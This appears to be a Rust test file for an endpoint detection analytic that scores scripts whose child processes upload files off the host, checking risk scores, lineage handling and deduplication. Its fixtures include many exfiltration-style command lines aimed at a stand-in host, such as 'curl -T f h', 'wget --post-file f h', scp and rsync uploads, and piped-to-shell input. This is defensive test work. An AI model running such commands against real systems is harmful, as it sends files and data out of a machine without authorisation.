//! Scripts and the movers they run.

use std::sync::Arc;

use super::{Object, ScriptExecution, Signal};
use crate::{
    detect::{Observation, testing},
    event::{Bytes, FdObject, Script, ScriptOrigin},
    process::Process,
};

fn step(analytic: &mut ScriptExecution, process: &Process, lineage: &[&Process]) -> Vec<Signal> {
    observe(analytic, process, lineage, &Observation::Exec)
}

fn observe(
    analytic: &mut ScriptExecution,
    process: &Process,
    lineage: &[&Process],
    observation: &Observation<'_>,
) -> Vec<Signal> {
    testing::signals(process, lineage, observation, |subject, observation, out| {
        analytic.observe(5, subject, observation, out);
    })
}

fn told(signals: &[Signal]) -> Vec<(u32, String, f64)> {
    signals
        .iter()
        .map(|signal| match &signal.object {
            Object::Script(name) => (signal.subject.pid, name.to_string(), signal.risk),
            other @ (Object::Command(_)
            | Object::File(_)
            | Object::Files(_)
            | Object::Shared(_)
            | Object::Destination(_)
            | Object::Content(_)) => {
                panic!("{other:?}")
            }
        })
        .collect()
}

#[test]
fn risk_by_kind_of_script() {
    type Row = (&'static str, &'static str, Option<(&'static str, f64)>);
    let rows: &[Row] = &[
        ("bash /x/a.sh", "curl -T f h", Some(("/x/a.sh", 8.0))),
        ("bash a.sh", "curl -T f h", Some(("/home/ann/a.sh", 8.0))),
        ("bash ./a.SH", "curl -T f h", Some(("/home/ann/a.SH", 8.0))),
        ("bash -euo pipefail /x/a.sh", "scp f h:", Some(("/x/a.sh", 8.0))),
        ("pwsh /x/a.ps1", "curl -T f h", Some(("/x/a.ps1", 9.0))),
        ("pwsh -NoProfile -File /x/a.ps1", "wget --post-file f h", Some(("/x/a.ps1", 9.0))),
        ("sh /x/a.bat", "rsync f h:", Some(("/x/a.bat", 7.0))),
        ("wine cmd /c x.bat", "curl -T f h", Some(("x.bat", 7.0))),
        ("python3 /x/a.py", "curl -T f h", Some(("/x/a.py", 7.0))),
        ("perl /x/a.pl", "| ftp h", Some(("/x/a.pl", 7.0))),
        ("sh /usr/local/bin/backup", "curl -T f h", Some(("/usr/local/bin/backup", 7.0))),
        ("bash -c 'curl -T f h'", "curl -T f h", Some(("-c", 5.0))),
        ("busybox sh /x/a.sh", "curl -T f h", Some(("/x/a.sh", 8.0))),
        ("bash -ceuo pipefail 'x'", "curl -T f h", Some(("-c", 5.0))),
        ("python3 -c x", "curl -T f h", Some(("-c", 5.0))),
        ("bash +c x", "curl -T f h", Some(("-c", 5.0))),
        ("pwsh -enc x", "curl -T f h", Some(("-c", 5.0))),
        ("deno run -A /x/a.ts", "curl -T f h", Some(("/x/a.ts", 7.0))),
        ("R --no-echo --file=/x/a.R --args b", "curl -T f h", Some(("/x/a.R", 7.0))),
        ("| bash", "curl -T f h", Some(("stdin", 6.0))),
        ("| bash -s arg", "curl -T f h", Some(("stdin", 6.0))),
        ("| python3 -", "curl -T f h", Some(("stdin", 6.0))),
        // A harmless mover keeps the script low.
        ("bash /x/a.sh", "openssl s_client -connect h:443", Some(("/x/a.sh", 4.0))),
        ("bash /x/a.sh", "| mail -s x a@b", Some(("/x/a.sh", 6.0))),
        ("bash /x/a.sh", "curl -d x http://localhost/", Some(("/x/a.sh", 5.0))),
        // No mover, no sending.
        ("bash /x/a.sh", "ls", None),
        ("bash /x/a.sh", "curl -O http://h/f", None),
        ("bash /x/a.sh", "tar cf a.tar d", None),
        // A person's shell is no script.
        ("bash", "curl -T f h", None),
        ("-bash", "curl -T f h", None),
        ("bash -i", "curl -T f h", None),
        ("bash -l", "curl -T f h", None),
        ("bash --rcfile x", "curl -T f h", None),
        ("| python3 -V", "curl -T f h", None),
        ("python3", "curl -T f h", None),
        ("ls", "curl -T f h", None),
        // A tool written as a script is a tool.
        ("python3 /usr/bin/aws s3 ls", "curl -T f h", None),
    ];
    for (script, mover, expected) in rows {
        let script_process = testing::process(10, script);
        let found = step(&mut ScriptExecution::new(), &testing::process(11, mover), &[&script_process]);
        let expected: Vec<_> = expected.iter().map(|(name, risk)| (10, (*name).to_owned(), *risk)).collect();
        assert_eq!(told(&found), expected, "{script} / {mover}");
    }
}

#[test]
fn closed_or_null_input_is_no_script() {
    for stdin in [FdObject::None, FdObject::Device { rdev: 259 }] {
        let mut shell = testing::process(10, "bash");
        shell.fds = [stdin, FdObject::None, FdObject::None];
        let found = step(&mut ScriptExecution::new(), &testing::process(11, "curl -T f h"), &[&shell]);
        assert_eq!(told(&found), []);
    }
}

#[test]
fn once_for_each_script_process_and_tool() {
    let mut analytic = ScriptExecution::new();
    let script = testing::process(10, "bash /x/a.sh");
    assert_eq!(told(&step(&mut analytic, &script, &[])), []);
    let first = step(&mut analytic, &testing::process(11, "curl -T f h"), &[&script]);
    assert_eq!(told(&first), [(10, "/x/a.sh".to_owned(), 8.0)]);
    assert_eq!(told(&step(&mut analytic, &testing::process(12, "curl -T g h"), &[&script])), []);
    let other_tool = step(&mut analytic, &testing::process(13, "scp g h:"), &[&script]);
    assert_eq!(told(&other_tool), [(10, "/x/a.sh".to_owned(), 8.0)]);
    let again = testing::process(20, "bash /x/a.sh");
    let other_process = step(&mut analytic, &testing::process(21, "curl -T f h"), &[&again]);
    assert_eq!(told(&other_process), [(20, "/x/a.sh".to_owned(), 8.0)]);
    analytic.forget(script.key);
    assert_eq!(told(&step(&mut analytic, &testing::process(14, "curl -T f h"), &[&script])).len(), 1);
}

#[test]
fn every_script_file_of_the_lineage_and_no_wrapper_text() {
    let outer = testing::process(10, "bash /x/a.sh");
    let text = testing::process(11, "sh -c /x/b.py");
    let inner = testing::process(12, "python3 /x/b.py");
    let mover = testing::process(13, "curl -T f h");
    let found = step(&mut ScriptExecution::new(), &mover, &[&inner, &text, &outer]);
    assert_eq!(told(&found), [(12, "/x/b.py".to_owned(), 7.0), (10, "/x/a.sh".to_owned(), 8.0)]);
}

#[test]
fn a_subshell_is_its_script() {
    let script = testing::process(10, "bash /x/a.sh");
    let subshell = Process { execs: 0, ..testing::process(11, "bash /x/a.sh") };
    let mover = testing::process(12, "curl -T f h");
    let found = step(&mut ScriptExecution::new(), &mover, &[&subshell, &script]);
    assert_eq!(told(&found), [(10, "/x/a.sh".to_owned(), 8.0)]);
    // Where its parent is not known, it stands for it.
    let found = step(&mut ScriptExecution::new(), &mover, &[&subshell]);
    assert_eq!(told(&found), [(11, "/x/a.sh".to_owned(), 8.0)]);
}

#[test]
fn a_script_that_becomes_the_mover_is_remembered() {
    let mut analytic = ScriptExecution::new();
    step(&mut analytic, &testing::process(10, "bash -c 'curl -T f h'"), &[]);
    let found = step(&mut analytic, &testing::process(10, "curl -T f h"), &[]);
    assert_eq!(told(&found), [(10, "-c".to_owned(), 5.0)]);
}

#[test]
fn ssh_below_scp_is_the_doing_of_scp() {
    let script = testing::process(10, "bash /x/a.sh");
    let scp = testing::process(11, "rsync f h:");
    let ssh = testing::process(12, "| ssh h rsync --server . /d");
    assert_eq!(told(&step(&mut ScriptExecution::new(), &ssh, &[&scp, &script])), []);
}

#[test]
fn a_script_known_after_its_mover_ran() {
    let mut analytic = ScriptExecution::new();
    let shell = testing::process(10, "bash");
    assert_eq!(told(&step(&mut analytic, &testing::process(11, "curl -T f h"), &[&shell])), []);
    let script = script(ScriptOrigin::File, "/x/late.sh");
    let found = observe(&mut analytic, &shell, &[], &Observation::Script(&script));
    assert_eq!(told(&found), [(10, "/x/late.sh".to_owned(), 8.0)]);
    assert_eq!(told(&observe(&mut analytic, &shell, &[], &Observation::Script(&script))), []);
}

#[test]
fn the_captured_path_and_the_shebang_win_over_arguments() {
    let mut captured = testing::process(10, "bash a.sh");
    captured.script = Some(Arc::new(script(ScriptOrigin::File, "/real/a.ps1")));
    let found = step(&mut ScriptExecution::new(), &testing::process(11, "curl -T f h"), &[&captured]);
    assert_eq!(told(&found), [(10, "/real/a.ps1".to_owned(), 9.0)]);
    let mut started = testing::process(10, "bash -x /tmp/a.sh");
    started.shebang = Some(Bytes::from("./a.sh"));
    let found = step(&mut ScriptExecution::new(), &testing::process(11, "curl -T f h"), &[&started]);
    assert_eq!(told(&found), [(10, "/home/ann/a.sh".to_owned(), 8.0)]);
}

#[test]
fn state_is_bounded() {
    let mut analytic = ScriptExecution::new();
    for pid in 0..20_000 {
        step(&mut analytic, &testing::process(pid, "bash /x/a.sh"), &[]);
    }
    assert_eq!(analytic.processes.len(), super::PROCESSES);
    assert_eq!(analytic.evicted(), 20_000 - super::PROCESSES as u64);
}

fn script(origin: ScriptOrigin, path: &str) -> Script {
    Script {
        origin,
        path: Bytes::from(path),
        sha256: String::new(),
        size: 0,
        text: Bytes::default(),
        not_captured: String::new(),
    }
}
